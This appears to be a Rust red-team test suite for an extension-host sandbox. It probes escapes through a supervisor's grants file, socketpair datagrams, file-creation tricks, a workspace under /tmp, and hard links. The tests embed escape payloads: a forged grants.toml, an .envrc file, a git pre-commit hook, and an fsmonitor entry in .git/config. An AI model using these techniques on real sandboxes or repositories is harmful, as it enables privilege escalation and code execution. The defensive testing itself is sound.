            try { await context.fs.writeFile(__GRANTS__, 'x'); r.controlBroker = 'written?!'; } catch (e) { r.controlBroker = String(e.message).slice(0, 80); }
            await context.fs.writeFile(__TMP__, '# placeholder\n');
            r.created = true;
            setTimeout(() => process.exit(1), 100); // crash: the supervisor restarts the host
            return r;
        "
        .replace("__GRANTS__", &format!("{:?}", grants_path.display().to_string()))
        .replace("__TMP__", &format!("{:?}", tmp.display().to_string())))
        .await;
    println!("{backend}: first start: {first}");
    // 2. The restart computes a new view, which binds grants.toml.tmp writable.
    let old = host.host.status().pid;
    let mut restarted = false;
    for _ in 0..200 {
        tokio::time::sleep(Duration::from_millis(100)).await;
        let status = host.host.status();
        if status.pid.is_some()
            && status.pid != old
            && status.state == dscode_extension_host::lifecycle::ExtensionHostState::Running
        {
            restarted = true;
            break;
        }
    }
    assert!(restarted, "the host was restarted");
    // 3. The operator grants something, the way `dscode-exthost grant` does.
    let mut operator = GrantsFile::load(&grants_path).unwrap();
    operator
        .grant(
            ID,
            "1.0.0",
            &requested.map(String::from),
            "fileSystem.read:src/**",
        )
        .unwrap();
    operator.save().unwrap();
    // 4. The host writes through its bind of the old temporary file: the grants file.
    let second = host
        .eval(&r#"
            const fs = require('fs');
            const evil = '[extensions."test.redteam"]\nversion = "1.0.0"\nrequested = ["fileSystem.write:.git/**"]\nallow = ["fileSystem.write:.git/**"]\n';
            try { fs.writeFileSync(__TMP__, evil); return 'written'; } catch (e) { return e.code; }
        "#
        .replace("__TMP__", &format!("{:?}", tmp.display().to_string())))
        .await;
    println!(
        "after the operator's grant, the host writes {}: {second}",
        tmp.display()
    );
    let on_disk = std::fs::read_to_string(&grants_path).unwrap();
    println!("grants.toml now:\n{on_disk}");
    host.host.stop().await;
    on_disk
        .contains(".git/**")
        .then(|| format!("{backend}: the host rewrote the supervisor's grants file: {on_disk}"))
}

/// `socket()` is refused, `socketpair()` is not: an `AF_UNIX` datagram socket from a pair can
/// still `connect()` or `sendto()` any named datagram socket the host can see (a syslog or
/// journal socket, an agent's socket in a granted folder). Here: a datagram socket that a
/// process of the user listens on in the workspace (read-only grant).
#[tokio::test(flavor = "multi_thread")]
async fn socketpair_datagram_reaches_a_named_socket() {
    let lab = Lab::new();
    lab.plant("ws/a.txt", "a");
    let sock_path = lab.path("ws/agent.sock");
    let listener = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
    std::fs::set_permissions(&sock_path, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let mut reached = Vec::new();
    for backend in backends() {
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("ws")],
                allow: &["fileSystem.read"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(
                &r"
                const code = `
import socket, sys
r = {}
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    r['socket'] = 'allowed'
except OSError as e:
    r['socket'] = e.errno
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    a.sendto(b'from-the-sandbox', sys.argv[1])
    r['sendto'] = 'sent'
except OSError as e:
    r['sendto'] = e.errno
try:
    b.connect(sys.argv[1]); b.send(b'from-the-sandbox')
    r['connect'] = 'sent'
except OSError as e:
    r['connect'] = e.errno
print(r)
`;
                return sh('/usr/bin/python3', ['-c', code, __SOCK__]);
            "
                .replace(
                    "__SOCK__",
                    &format!("{:?}", sock_path.display().to_string()),
                ),
            )
            .await;
        println!("{backend}: {}", serde_json::to_string(&out).unwrap());
        let mut buf = [0u8; 64];
        let mut got = 0;
        while let Ok(n) = listener.recv(&mut buf) {
            if &buf[..n] == b"from-the-sandbox" {
                got += 1;
            }
        }
        if got > 0 {
            reached.push(format!(
                "{backend}: {got} datagrams reached the named socket"
            ));
        }
        host.host.stop().await;
    }
    assert!(reached.is_empty(), "{reached:?}");
}

/// Creation tricks inside a folder granted write and delete (Landlock gives change and remove,
/// never create): `O_TMPFILE` then linkat, link, rename, mkfifo, mknod, symlink, mkdir; plus
/// /proc/N/exe of the stage (a file outside the view). Control: an existing file changes.
#[tokio::test(flavor = "multi_thread")]
async fn creation_tricks_in_a_writable_folder() {
    let lab = Lab::new();
    lab.plant("ws/src/existing.txt", "existing");
    lab.plant("ws/src/victim.txt", "victim");
    let ws = lab.path("ws");
    let mut created = Vec::new();
    for backend in [Backend::Landlock, Backend::BwrapLandlock] {
        if !backends().contains(&backend) {
            continue;
        }
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![ws.clone()],
                allow: &["fileSystem.read", "fileSystem.write", "fileSystem.delete"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(
                &r"
                const code = `
import os, ctypes, sys, json
ws = sys.argv[1]
src = ws + '/src'
r = {}
def t(name, f):
    try:
        f(); r[name] = 'WORKED'
    except OSError as e:
        r[name] = e.strerror
libc = ctypes.CDLL(None, use_errno=True)
def tmpfile_link():
    fd = os.open(src, os.O_TMPFILE | os.O_WRONLY, 0o644)
    os.write(fd, b'x')
    if libc.linkat(fd, b'', -100, (src + '/.envrc').encode(), 0x1000) != 0:
        e = ctypes.get_errno()
        os.link('/proc/self/fd/%d' % fd, src + '/.envrc', follow_symlinks=True)
t('o_tmpfile_open', lambda: os.close(os.open(src, os.O_TMPFILE | os.O_WRONLY, 0o644)))
t('o_tmpfile_linkat', tmpfile_link)
t('create', lambda: open(src + '/new.txt', 'x').close())
t('link', lambda: os.link(src + '/existing.txt', src + '/.git'))
t('rename', lambda: os.rename(src + '/victim.txt', src + '/.envrc'))
t('mkfifo', lambda: os.mkfifo(src + '/fifo'))
t('mknod', lambda: os.mknod(src + '/node', 0o600 | 0o100000))
t('symlink', lambda: os.symlink('/x', src + '/.git'))
t('mkdir', lambda: os.mkdir(src + '/.git'))
t('stage_exe_read', lambda: open('/proc/1/exe', 'rb').read(4))
t('control_write_existing', lambda: open(src + '/existing.txt', 'w').write('changed'))
print(json.dumps(r))
`;
                return JSON.parse(sh('/usr/bin/python3', ['-c', code, __WS__]).stdout);
            "
                .replace("__WS__", &format!("{:?}", ws.display().to_string())),
            )
            .await;
        println!("{backend}: {}", serde_json::to_string(&out).unwrap());
        host.host.stop().await;
        assert_eq!(out["value"]["control_write_existing"], "WORKED", "{out}");
        for (k, v) in out["value"].as_object().unwrap() {
            if k != "control_write_existing" && k != "o_tmpfile_open" && v == "WORKED" {
                created.push(format!("{backend}: {k}"));
            }
        }
    }
    println!(
        "leftover in ws/src: {:?}",
        std::fs::read_dir(ws.join("src"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect::<Vec<_>>()
    );
    assert!(created.is_empty(), "{created:?}");
}

/// A workspace under /tmp: its entries are bound beneath the private /tmp, whose Landlock rule
/// gives every right but exec to everything beneath /tmp. A write grant (change existing files
/// only, no delete) then lets the host create, rename and delete files on disk in the
/// workspace, protected names included (`src/.envrc`, a nested `src/.git/hooks`).
#[tokio::test(flavor = "multi_thread")]
async fn a_workspace_under_tmp_gets_the_private_tmps_rights() {
    let lab = Lab::new();
    let mut escaped = Vec::new();
    for backend in [Backend::Landlock, Backend::BwrapLandlock] {
        if !backends().contains(&backend) {
            continue;
        }
        let base = PathBuf::from(format!("/tmp/dscode-redteam-ws-{:x}", rand_u64()));
        std::fs::create_dir_all(base.join("ws/src")).unwrap();
        std::fs::create_dir_all(base.join("ws/.git")).unwrap();
        std::fs::write(base.join("ws/.git/config"), "[core]\n").unwrap();
        std::fs::write(base.join("ws/src/existing.txt"), "existing").unwrap();
        std::fs::write(base.join("ws/src/keep.txt"), "keep").unwrap();
        let ws = base.join("ws");
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![ws.clone()],
                allow: &["fileSystem.read", "fileSystem.write"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(&r"
                const fs = require('fs');
                const src = __WS__ + '/src';
                const r = {};
                const t = (k, f) => { try { f(); r[k] = 'WORKED'; } catch (e) { r[k] = e.code; } };
                t('control_write_existing', () => fs.writeFileSync(src + '/existing.txt', 'changed'));
                t('create_envrc', () => fs.writeFileSync(src + '/.envrc', 'echo pwned\n'));
                t('create_nested_git_hook', () => { fs.mkdirSync(src + '/.git/hooks', { recursive: true }); fs.writeFileSync(src + '/.git/hooks/pre-commit', '#!/bin/sh\nid\n'); });
                t('delete_without_delete_grant', () => fs.unlinkSync(src + '/keep.txt'));
                t('top_level_git_config', () => fs.writeFileSync(__WS__ + '/.git/config', '[core]\n\tfsmonitor = id\n'));
                r.mounts = fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.includes('/tmp')).map((l) => l.split(' ').slice(3, 6).join(' '));
                return r;
            ".replace("__WS__", &format!("{:?}", ws.display().to_string())))
            .await;
        println!("{backend}: {}", serde_json::to_string(&out).unwrap());
        host.host.stop().await;
        assert_eq!(out["value"]["control_write_existing"], "WORKED", "{out}");
        for (k, v) in out["value"].as_object().unwrap() {
            if k != "control_write_existing" && k != "mounts" && v == "WORKED" {
                escaped.push(format!("{backend}: {k}"));
            }
        }
        let on_disk: Vec<_> = std::fs::read_dir(ws.join("src"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        println!("{backend}: on disk in {}/src: {on_disk:?}", ws.display());
        let _ = std::fs::remove_dir_all(&base);
    }
    assert!(escaped.is_empty(), "{escaped:?}");
}

/// The supervisor's files are kept out of views by path; a second name for the grants file
/// (a hard link, as `cp -al`/rsnapshot-style backups or dotfile managers make) is not. The
/// broker refuses writes to files with several links; the host's own fs does not.
#[tokio::test(flavor = "multi_thread")]
async fn a_hard_link_to_the_grants_file_is_in_the_view() {
    let lab = Lab::new();
    let grants = lab.plant("state/grants.toml", "[extensions]\n");
    lab.plant("ws/src/a.txt", "a");
    std::fs::create_dir_all(lab.path("ws/backup")).unwrap();
    std::fs::hard_link(&grants, lab.path("ws/backup/grants.toml")).unwrap();
    let mut escaped = Vec::new();
    for backend in [Backend::Landlock, Backend::BwrapLandlock] {
        if !backends().contains(&backend) {
            continue;
        }
        std::fs::write(&grants, "[extensions]\n").unwrap();
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("ws")],
                allow: &["fileSystem.read", "fileSystem.write"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![grants.clone()],
            },
        )
        .await;
        let out = host
            .eval(&r#"
                const fs = require('fs');
                const r = {};
                try { await context.fs.writeFile(__LINK__, 'x'); r.broker = 'written'; } catch (e) { r.broker = String(e.message).slice(0, 80); }
                try { fs.writeFileSync(__LINK__, '[extensions."test.redteam"]\nversion = "1.0.0"\nallow = ["fileSystem.write:.git/**"]\n'); r.direct = 'written'; } catch (e) { r.direct = e.code; }
                return r;
            "#.replace("__LINK__", &format!("{:?}", lab.path("ws/backup/grants.toml").display().to_string())))
            .await;
        println!("{backend}: {out}");
        host.host.stop().await;
        let now = std::fs::read_to_string(&grants).unwrap();
        if now.contains(".git/**") {
            escaped.push(format!(
                "{backend}: the grants file was rewritten through its second name"
            ));
        }
    }
    assert!(escaped.is_empty(), "{escaped:?}");
}
